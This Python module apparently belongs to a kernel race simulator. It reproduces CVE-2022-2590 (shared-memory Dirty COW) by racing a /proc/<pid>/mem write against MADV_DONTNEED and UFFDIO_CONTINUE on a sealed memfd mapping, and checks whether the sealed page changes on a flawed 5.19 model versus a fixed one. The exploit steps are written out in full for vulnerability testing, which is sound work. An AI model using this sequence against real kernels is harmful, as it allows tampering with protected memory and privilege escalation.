"""Shared-memory Dirty COW: a forced write against UFFDIO_CONTINUE changes sealed memory

Ref: CVE-2022-2590; Linux 5.19, mm/gup.c (can_follow_write_pte), mm/userfaultfd.c
(mfill_atomic_install_pte).

A process writes by /proc/<pid>/mem to a private, read-only mapping that another one has of a sealed
file in memory, and gets a copy of the page. That one wakes up, where until then a third one was
executed, drops the copy, and has its userfaultfd map the file's own page: the kernel of 5.19 makes
the entry dirty though nobody has written, and takes it for the copy.
"""

from collections.abc import Sequence

from sim.explore.race import Memory, Race, Start, Variant
from sw.arch.x86.entry.syscalls.syscall_64 import NR_ioctl, NR_userfaultfd
from sw.arch.x86.include.asm.page_types import PAGE_SIZE
from sw.fs.fcntl import F_ADD_SEALS
from sw.include.linux.mman import MADV_DONTNEED, MAP_PRIVATE, PROT_READ
from sw.include.linux.shmem_fs import F_SEAL_WRITE, MFD_ALLOW_SEALING
from sw.include.linux.userfaultfd import (
    UFFD_API, UFFD_FEATURE_MINOR_SHMEM, UFFD_FEATURE_SIGBUS, UFFD_USER_MODE_ONLY, UFFDIO_API,
    UFFDIO_CONTINUE, UFFDIO_REGISTER, UFFDIO_REGISTER_MODE_MINOR,
)
from sw.processor.cpu import Cpu
from sw.user import User

from .cast import frame_of, process


CPUS   = 2
FLAWED = Variant("5.19")
SOUND  = Variant("6.x")

PREEMPTIONS = 1

SEALED = 0x5EA1ED
PATCH  = 0x6F6F6D21


async def _with_fields(user: User, arg: int, *fields: int) -> int:
    """Store the structure of a command; return its address."""
    for index, field in enumerate(fields):
        await user.store(arg + 8 * index, field)
    return arg


async def prepare(cpus: Sequence[Cpu]) -> Race:
    """Map the sealed file in one process, and open its memory in another one."""
    first, second = cpus
    owner = await process(first)
    file  = await owner.memfd_create("sealed", MFD_ALLOW_SEALING)
    await owner.write_bytes(file, SEALED.to_bytes(8, "little"), 0)
    await owner.fcntl(file, F_ADD_SEALS, F_SEAL_WRITE)
    page  = await owner.mmap(PAGE_SIZE, PROT_READ, MAP_PRIVATE, file)
    uffd  = await owner.syscall(NR_userfaultfd, UFFD_USER_MODE_ONLY)
    arg   = await owner.mmap(PAGE_SIZE)
    for command, *fields in (
        (UFFDIO_API, UFFD_API, UFFD_FEATURE_SIGBUS | UFFD_FEATURE_MINOR_SHMEM, 0),
        (UFFDIO_REGISTER, page, PAGE_SIZE, UFFDIO_REGISTER_MODE_MINOR, 0),
        (UFFDIO_CONTINUE, page, PAGE_SIZE, 0, 0),
    ):
        await owner.syscall(NR_ioctl, uffd, command, await _with_fields(owner, arg, *fields))
    await _with_fields(owner, arg, page, PAGE_SIZE, 0, 0)
    frame  = await frame_of(owner, page)
    writer = await process(first)
    source = await writer.mmap(PAGE_SIZE)
    await writer.store(source, PATCH)
    mem    = await writer.open(f"/proc/{owner.pid}/mem")
    owner  = owner.on(second)
    other  = (await process(first)).on(second)

    async def write(cpu: Cpu, start: Start) -> None:
        await start(cpu)
        await writer.pwrite(mem, source, 4, page)

    async def fill(cpu: Cpu, start: Start) -> None:
        theirs = await other.mmap(PAGE_SIZE)
        await other.store(theirs, 0)
        await start(cpu)
        await other.load(theirs)
        await owner.madvise(page, PAGE_SIZE, MADV_DONTNEED)
        await owner.syscall(NR_ioctl, uffd, UFFDIO_CONTINUE, arg)

    def judge(memory: Memory) -> str | None:
        found = memory.read(frame, 8)
        return None if found == SEALED else f"memory that is sealed has {found:#x} for {SEALED:#x}"

    return Race((write, fill), judge)
